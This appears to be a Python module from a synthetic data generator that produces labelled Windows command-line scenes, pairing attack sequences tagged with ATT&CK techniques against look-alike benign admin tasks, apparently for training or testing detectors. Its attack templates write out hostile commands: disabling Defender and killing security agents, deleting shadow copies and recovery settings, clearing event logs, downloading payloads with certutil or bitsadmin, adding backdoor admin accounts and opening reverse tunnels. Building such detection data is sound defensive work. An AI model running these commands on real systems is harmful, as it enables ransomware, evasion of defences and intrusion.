"""Several commands in a row: an entry that goes on to its aim, and set-up work that uses the same programs."""

from __future__ import annotations

from typing import Sequence

from generator.families.windows.command_story import background, run_command
from generator.families.windows.desk import Desk
from generator.families.windows.execution_table import lines_of
from generator.scene import Label, Scene, aftermath, attack, benign, family
from generator.world import World

Step = tuple[Label, str]
EVADE, KEEP, LOCK, FETCH = attack("Defense Evasion", "T1562.001"), attack("Persistence", "T1547.001"), attack("Ransomware Activity", "T1490", severity="CRITICAL"), attack("Command and Control", "T1105")
ADMIN, UPDATE = benign("Administration"), benign("Software Update")


def _told(world: World, steps: Sequence[Step], parents: Sequence[str], user: str | None, least: int) -> Scene:
    """Some of the steps in their order, started by one parent."""
    desk = Desk(world)
    parent = desk.fill(world.pick(parents))
    chosen = sorted(world.some(range(len(steps)), min(least, len(steps)), len(steps)))
    for label, table in (steps[index] for index in chosen):
        run_command(desk, label, desk.fill(world.pick(lines_of(table))), parent, user)
    if world.chance(0.3):
        background(desk)
    return desk.scene


@family("windows/batch-before-locking", attack=True, weight=1.3)
def batch_before_locking(world: World) -> Scene:
    """A batch file clears the way for the program that encrypts."""
    return _told(world, (
        (EVADE, "powershell Set-MpPreference -DisableRealtimeMonitoring $true\nsc config WinDefend start= disabled\ntaskkill /f /im «MsMpEng|ekrn|SentinelAgent».exe\n~d~«PCHunter64|dControl|GMER».exe"),
        (aftermath(LOCK), "net stop «vss|VeeamBackupSvc|MSSQLSERVER» /y\ntaskkill /f /im «sqlservr|outlook|veeam.backup.service».exe"),
        (LOCK, "vssadmin delete shadows /all /quiet\nwmic shadowcopy delete\nvssadmin resize shadowstorage /for=C: /on=C: /maxsize=401MB"),
        (LOCK, "bcdedit /set {default} recoveryenabled no\nwbadmin delete catalog -quiet\nbcdedit /set {default} bootstatuspolicy ignoreallfailures"),
        (attack("Log Clearing", "T1070.001", severity="CRITICAL"), "wevtutil cl «Security|System|Application»\nfor /F \"tokens=*\" %1 in ('wevtutil.exe el') DO wevtutil.exe cl \"%1\""),
        (attack("Ransomware Activity", "T1486", severity="CRITICAL"), "~f~.exe «-path D:\\|--access-token @hex@@hex@|-m net|-p \\\\@host@\\Daten -pass @hex@»"),
    ), ("cmd.exe", "cmd.exe", "C:\\Windows\\PSEXESVC.exe", "powershell.exe", "@tmp@@word@.exe", "services.exe"), world.pick([None, "SYSTEM"]), 2)  # fmt: skip


@family("windows/stealer-settles-in", attack=True, weight=1.3)
def stealer_settles_in(world: World) -> Scene:
    """A download opened by a person fetches its next part, hides it and comes back at logon."""
    return _told(world, (
        (FETCH, "powershell -w hidden -c \"iwr @url@/~n~.zip -OutFile ~f~.zip\"\ncurl.exe -s -o ~f~.exe @url@\nbitsadmin /transfer ~n~ @url@ ~f~.exe\ncertutil -urlcache -split -f @url@ ~f~.exe"),
        (attack("Defense Evasion", "T1562.001"), "powershell Add-MpPreference -ExclusionPath '~d~'\npowershell -c Add-MpPreference -ExclusionProcess '~n~.exe'"),
        (aftermath(attack("Defense Evasion", "T1564.001")), "attrib +h +s ~f~.exe\nattrib +h ~d~~n~"),
        (KEEP, "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v ~n~ /d ~f~.exe /f\ncopy ~f~.exe \"%APPDATA%\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\~n~.exe\""),
        (attack("Persistence", "T1053.005"), "schtasks /create /tn ~n~ /tr ~f~.exe /sc minute /mo 5 /f\nschtasks /create /sc onlogon /tn ~n~ /tr \"wscript //b ~f~.vbs\" /f"),
        (attack("Defense Evasion", "T1218.011"), "rundll32.exe ~f~.dll,«Start|#1»\nrundll32 ~f~.«dat|tmp»,«DllRegisterServer|Run»"),
        (attack("Defense Evasion", "T1218.010"), "regsvr32 /s ~f~.dll\nregsvr32.exe -s ~f~.«ocx|dat»"),
    ), ("mshta.exe", "wscript.exe", "powershell.exe", "WINWORD.EXE", "C:\\Users\\@user@\\Downloads\\«Setup|Invoice|crack»_@n@.exe", "explorer.exe", "cmd.exe"), None, 1)  # fmt: skip


@family("windows/operator-digs-in", attack=True)
def operator_digs_in(world: World) -> Scene:
    """Somebody with rights prepares to return: account, remote help, tunnel, firewall."""
    return _told(world, (
        (aftermath(attack("Persistence", "T1136.001", "T1098")), "net user «@word@|support_@n@|sysadm» @pw@ /add\nnet localgroup administrators @word@ /add"),
        (attack("Defense Evasion", "T1562.004"), "netsh advfirewall set allprofiles state off\nnetsh firewall set opmode disable"),
        (attack("Command and Control", "T1219"), "~d~AnyDesk.exe --install C:\\ProgramData\\AnyDesk --start-with-win --silent\ncmd /c echo @pw@ | C:\\ProgramData\\AnyDesk\\AnyDesk.exe --set-password"),
        (attack("Command and Control", "T1572"), "~d~chisel.exe client @pub@:443 R:socks\n~d~plink.exe -N -R 3389:127.0.0.1:3389 root@@pub@ -pw @pw@\n~d~ngrok.exe tcp 3389"),
        (attack("Persistence", "T1543.003"), "sc create ~n~ binPath= \"~f~.exe\" start= auto\nsc config Fax binPath= ~f~.exe"),
        (attack("Log Clearing", "T1070.001"), "wevtutil cl Security\npowershell Clear-EventLog -LogName Security"),
    ), ("cmd.exe", "powershell.exe", "w3wp.exe", "sqlservr.exe", "WmiPrvSE.exe", "rundll32.exe"), world.pick([None, "SYSTEM"]), 1)  # fmt: skip


@family("windows/package-set-up-step-by-step", attack=False, weight=1.5)
def package_set_up_step_by_step(world: World) -> Scene:
    """A deployment stops the old service, installs, opens the firewall and plans its updater."""
    return _told(world, (
        (UPDATE, "net stop \"~v~ Service\" /y\ntaskkill /f /im ~v~.exe\nsc stop ~v~Agent"),
        (UPDATE, "curl.exe -sSL https://~s~.@fqdn@/packages/agent.msi -o C:\\Windows\\Temp\\agent.msi\npowershell Start-BitsTransfer -Source https://~s~.@fqdn@/~v~/setup.exe -Destination C:\\Windows\\Temp\\setup.exe\nrobocopy \\\\~s~\\software$\\~v~ C:\\Windows\\Temp\\~v~ /E"),
        (UPDATE, "msiexec /i C:\\Windows\\Temp\\agent.msi /qn /norestart\nC:\\Windows\\Temp\\setup.exe /S\n\"~t~setup.exe\" /silent /norestart"),
        (UPDATE, "reg add \"HKLM\\SOFTWARE\\~v~\" /v Server /d @host@.@fqdn@ /f\nreg add \"HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\" /v \"~v~\" /d \"C:\\Program Files\\~v~\\tray.exe\" /f"),
        (UPDATE, "netsh advfirewall firewall add rule name=\"~v~\" dir=in action=allow program=\"C:\\Program Files\\~v~\\service.exe\""),
        (UPDATE, "sc create \"~v~ Service\" binPath= \"C:\\Program Files\\~v~\\service.exe\" start= auto\nsc failure \"~v~ Service\" reset= 86400 actions= restart/60000\nregsvr32 /s \"C:\\Program Files\\~v~\\shellext.dll\""),
        (UPDATE, "schtasks /create /tn \"~v~ Updater\" /tr \"C:\\Program Files\\~v~\\updater.exe /silent\" /sc daily /st 12:00 /ru SYSTEM /f"),
        (UPDATE, "cmd /c rd /s /q C:\\Windows\\Temp\\~v~\ndel /f /q C:\\Windows\\Temp\\agent.msi"),
    ), ("cmd.exe", "powershell.exe", "C:\\Windows\\CCM\\CcmExec.exe", "C:\\Windows\\AdminArsenal\\PDQDeployRunner\\service-1\\PDQDeployRunner-1.exe", "C:\\Windows\\PSEXESVC.exe", "services.exe", "WmiPrvSE.exe"), world.pick([None, "SYSTEM"]), 1)  # fmt: skip


@family("windows/server-maintenance-step-by-step", attack=False, weight=1.3)
def server_maintenance_step_by_step(world: World) -> Scene:
    """Before patches: services stopped, a shadow copy made, old ones thinned, restarted."""
    return _told(world, (
        (ADMIN, "net stop «MSSQLSERVER|VeeamBackupSvc|\"~v~ Service\"» /y\niisreset /stop\nnet stop Spooler"),
        (ADMIN, "vssadmin create shadow /for=D:\nvssadmin list shadows\nvssadmin delete shadows /for=D: /oldest\nwbadmin start systemstatebackup -backupTarget:E: -quiet"),
        (ADMIN, "wusa.exe C:\\Patches\\windows10.0-kb50@n@@n@-x64.msu /quiet /norestart\nDISM /Online /Cleanup-Image /RestoreHealth\nsfc /scannow"),
        (ADMIN, "wevtutil epl Security D:\\Archive\\security_@n@.evtx\nwevtutil epl System D:\\Archive\\system_@n@.evtx\nwevtutil sl Security /ms:1073741824"),
        (ADMIN, "takeown /f D:\\Profile\\@other@ /r /d y\nicacls D:\\Daten /save D:\\acl.txt /T\nicacls D:\\Daten\\Projekte /grant @domain@\\Technik:(OI)(CI)M /T"),
        (ADMIN, "bcdedit /export D:\\Backup\\bcd\nbcdedit /enum\nreagentc /info"),
        (ADMIN, "shutdown /r /t 60 /c \"Maintenance\"\nnet start MSSQLSERVER\niisreset /start"),
    ), ("cmd.exe", "cmd.exe", "powershell.exe", "C:\\Windows\\PSEXESVC.exe", "explorer.exe", "svchost.exe"), world.pick([None, "SYSTEM"]), 1)  # fmt: skip


@family("windows/new-pc-step-by-step", attack=False, weight=1.3)
def new_pc_step_by_step(world: World) -> Scene:
    """An admin prepares a PC: local account, remote desktop, exclusions of the trade program, remote help."""
    return _told(world, (
        (ADMIN, "net user localadmin @pw@ /add\nnet localgroup Administrators @domain@\\Helpdesk /add\nnet user Administrator /active:no\npowershell Rename-Computer -NewName @pc@"),
        (ADMIN, "reg add \"HKLM\\SYSTEM\\CurrentControlSet\\Control\\Terminal Server\" /v fDenyTSConnections /t REG_DWORD /d 0 /f\nnetsh advfirewall firewall set rule group=\"Remote Desktop\" new enable=Yes"),
        (ADMIN, "powershell Add-MpPreference -ExclusionPath \"C:\\Program Files\\~v~\"\npowershell -ExecutionPolicy Bypass -File D:\\setup\\prepare.ps1\npowershell Set-ExecutionPolicy RemoteSigned -Force"),
        (ADMIN, "powercfg /hibernate off\nmanage-bde -on C: -RecoveryPassword -UsedSpaceOnly\nw32tm /config /manualpeerlist:@dc@ /syncfromflags:manual /update"),
        (ADMIN, "D:\\setup\\AnyDesk.exe --install \"C:\\Program Files (x86)\\AnyDesk\" --start-with-win --silent\nmsiexec /i D:\\setup\\TeamViewer_Host.msi /qn\nwinget.exe install --id Google.Chrome --silent\nchoco install 7zip notepadplusplus -y"),
        (ADMIN, "schtasks /create /tn \"Weekly reboot\" /tr \"shutdown /r /t 60\" /sc weekly /d SUN /st 03:00 /ru SYSTEM\nreg import D:\\setup\\defaults.reg\nattrib +h C:\\Setup"),
    ), ("cmd.exe", "powershell.exe", "explorer.exe", "powershell.exe"), None, 1)  # fmt: skip
